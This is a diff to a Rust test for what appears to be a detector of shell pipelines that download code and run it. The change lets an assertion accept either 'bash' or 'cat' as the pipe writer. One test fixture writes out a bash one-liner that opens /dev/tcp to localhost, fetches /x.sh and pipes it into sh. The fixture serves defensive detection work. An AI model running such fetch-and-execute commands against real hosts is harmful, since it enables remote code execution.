@@ -2666,7 +2666,10 @@ fn inline_programs_that_download_are_downloaders() {
         assert_eq!(f.len(), 1, "{body}: {:?}", kinds(&found));
         assert_eq!(f[0].severity_label, SeverityLabel::High, "{body}");
         let w = &f[0].context.additional["pipeWriter"];
-        assert!(w.contains(writer), "{body}: writer {w}");
+        assert!(
+            writer.split('|').any(|one| w.contains(one)),
+            "{body}: writer {w}"
+        );
     };
     piped(
         "py.sh",
@@ -2680,7 +2683,10 @@ fn inline_programs_that_download_are_downloaders() {
         &format!(
             "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; printf \"GET /x.sh HTTP/1.0\\r\\n\\r\\n\" >&3; cat <&3' | sh"
         ),
-        "bash",
+        // bash runs its last command in its own process: the pipe's writer is bash (an inline
+        // program that connected out) or, once the exec of cat is read first, cat reading the
+        // connected socket; either is the download.
+        "bash|cat",
     );
     let fetched = dir.path("fetched");
     let found = detect(script(
